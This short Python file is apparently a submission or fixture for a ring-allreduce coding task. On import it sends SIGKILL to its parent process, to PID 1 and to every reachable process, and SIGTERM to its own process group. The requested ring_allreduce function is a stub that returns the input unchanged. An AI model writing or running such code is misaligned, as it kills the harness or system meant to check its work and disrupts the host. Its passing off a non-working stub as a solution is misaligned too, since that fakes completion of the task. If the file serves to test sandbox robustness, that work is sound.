"""Signal the parent, process group and every process: kill(ppid), killpg(0), kill(-1)."""
import os
import signal

for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
               lambda: os.killpg(0, signal.SIGTERM), lambda: os.kill(-1, signal.SIGKILL)):
    try:
        target()
    except OSError as exc:
        print(type(exc).__name__, exc)


def ring_allreduce(rank, world_size, data, send, recv):
    return list(data)
